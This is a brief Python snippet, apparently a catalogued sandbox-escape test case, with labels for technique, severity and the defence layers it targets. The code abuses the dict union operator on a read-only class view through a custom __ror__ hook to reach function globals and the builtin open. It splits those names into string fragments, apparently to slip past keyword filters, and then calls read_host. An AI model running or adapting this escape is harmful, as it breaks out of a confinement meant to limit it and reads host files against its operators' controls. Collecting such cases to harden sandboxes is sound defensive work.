# technique: a union hands out the table behind a read-only view
# family: A
# severity: H
# layers: policy, mount_namespace, landlock
class Catch:
    def __ror__(self, other):
        other["leak"] = other["__glo" + "bals__"]
        return {}

def trick():
    import json
    vars(type(won)) | Catch()
    return json.dumps.leak["__built" + "ins__"]["open"]

read_host(trick)
